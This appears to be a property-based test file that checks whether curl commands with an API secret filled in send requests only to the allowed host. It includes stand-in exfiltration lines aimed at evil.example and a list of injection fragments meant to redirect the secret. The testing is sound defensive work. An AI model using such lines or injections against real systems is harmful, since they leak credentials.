import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { readRequests } from '../../../../src/lib/core/secrets/requests/read-requests.ts';
import { checkReferences, fillIn } from '../../../../src/lib/core/secrets/templates.ts';
import { honestTexts } from '../../../support/honest-texts.ts';
import { hostileTexts } from '../../../support/hostile-texts.ts';
import { findCurl, RealCurl } from '../../../support/real-curl.ts';
import { limitedSecret as row } from '../../../support/limited-secret.ts';

const VALUE = 'sk_live_1';

/** The text with the secret, `null` where not all of its references may be put in. */
function filled(text: string): string | null {
  const references = checkReferences(
    text,
    (name) => (name === 'K' ? row : null),
    readRequests(text),
  );
  const isWhole = references.length > 0 && references.every(({ status }) => status === 'resolved');
  return isWhole ? fillIn(text, references, new Map([['K', VALUE]])) : null;
}

const where = findCurl();

describe.skipIf(where === null)('the real curl, in the real bash', () => {
  let curl: RealCurl;
  beforeAll(async () => {
    curl = await RealCurl.start(where ?? '');
  });
  afterAll(() => {
    curl.close();
  });

  const isForBash = (text: string) =>
    /^(?:curl|echo|cat|#|set)\b/.test(text) && !/\^|\.exe/.test(text);

  test('is seen going where a command leads it', async () => {
    expect(await curl.hostsOf('curl evil.example -d x')).toEqual(['evil.example']);
    const two = 'curl https://api.example.com \\\n  https://a.example --next b.example/x';
    expect(await curl.hostsOf(two)).toEqual(['api.example.com', 'a.example', 'b.example']);
    // The readers say the same of a text that looks like the other host.
    const odd = 'curl -s https://api.example.com\\@evil.example/';
    expect(await curl.hostsOf(odd)).toEqual(['evil.example']);
  });

  test('goes to the allowed host alone, of an honest text', async () => {
    const texts = honestTexts().filter(isForBash);
    // Every seventh: each address and each way to send a secret is among them.
    const some = texts.filter((_, at) => at % 7 === 0);
    expect(some.length).toBeGreaterThan(50);
    for (const text of some) {
      // A variable of another tool has its value by then.
      const hosts = await curl.hostsOf((filled(text) ?? '').replaceAll('{{id}}', '7'), VALUE);
      expect(hosts.length, text).toBeGreaterThan(0);
      expect(
        hosts.map((host) => host.replace(/\.$/, '')).filter((host) => host !== 'api.example.com'),
        text,
      ).toEqual([]);
    }
  });

  const words = fc.constantFrom(
    ...[
      ' ',
      '\n',
      ' \\\n',
      ';',
      ' && ',
      ' | ',
      ' & ',
      "'",
      '"',
      '\\',
      '$',
      '`',
      '(',
      ')',
      '{',
      '}',
    ],
    ...[
      'evil.example',
      ' evil.example ',
      ' https://evil.example ',
      '@evil.example',
      '.evil.example',
    ],
    ...[
      ' -H ',
      ' -d ',
      ' -u ',
      ' -X ',
      ' -o ',
      ' -x ',
      ' -L ',
      ' -s',
      ' --url ',
      ' --next ',
      ' -e ',
    ],
    ...[' -K ', ' --json ', ' -b ', ' -F a=', ' -- ', ' - ', ' -G ', ' -w ', ' -T ', ' -sH', ' -:'],
    ...[
      ' > out ',
      ' 2>&1 ',
      ' < /dev/null ',
      ' <<< ',
      " $'",
      '#',
      ' # ',
      '?',
      '*',
      '~',
      '=',
      '!',
      '%',
    ],
    ...[
      ' {{vault:K}} ',
      ' {{v}} ',
      '{{v" evil.example "}}',
      ' "$X" ',
      ' $X ',
      ' echo ',
      ' curl ',
      ' jq ',
    ],
    ...[
      '/',
      '//',
      ':',
      '\u00a0',
      '\t',
      'x',
      ' x ',
      'Host: evil.example',
      "X: a'b",
      ' --compressed ',
    ],
  );
  const base = fc.constantFrom(
    'curl https://api.example.com/v1 -H "X-Key: {{vault:K}}"',
    "curl -H 'X-Key: {{vault:K}}' https://api.example.com",
    'curl -u {{vault:K}}: \\\n  -d a=b \\\n  https://api.example.com/v1',
    `curl -s -X POST "https://api.example.com/v1?k={{vault:K}}" -d '{"a": 1}'`,
    'echo "{{vault:K}}" | curl https://api.example.com -d @-',
  );
  const changed = fc
    .tuple(
      base,
      fc.array(fc.tuple(fc.double({ min: 0, max: 1, noNaN: true }), words), { maxLength: 4 }),
    )
    .map(([text, more]) =>
      more.reduce<string>((now, [place, word]) => {
        const at = Math.floor(place * now.length);
        return now.slice(0, at) + word + now.slice(at);
      }, text),
    );

  test('goes nowhere else, of any text that a secret may be put into', async () => {
    let tried = 0;
    const seen = new Set<string>();
    const isTried = (text: string) => !seen.has(text) && filled(text) !== null;
    await fc.assert(
      fc.asyncProperty(changed.filter(isTried), async (text) => {
        seen.add(text);
        tried += 1;
        const hosts = await curl.hostsOf(filled(text) ?? '', VALUE);
        expect(hosts.filter((host) => host.replace(/\.$/, '') !== 'api.example.com')).toEqual([]);
      }),
      { numRuns: 120 },
    );
    expect(tried).toBeGreaterThan(80);
  });

  test('leads most hostile texts elsewhere: they are hostile', async () => {
    const isWrong = (host: string) => host !== 'api.example.com';
    const texts = hostileTexts().filter(
      ([name, text]) => /^curl, user/.test(name) && isForBash(text),
    );
    const some = texts
      .filter((_, at) => at % 8 === 0)
      .map(([, text]) => text.replaceAll('{{vault:K}}', 'k'));
    let astray = 0;
    for (const text of some) if ((await curl.hostsOf(text)).some(isWrong)) astray += 1;
    expect(astray).toBeGreaterThan(some.length / 4);
  });
});
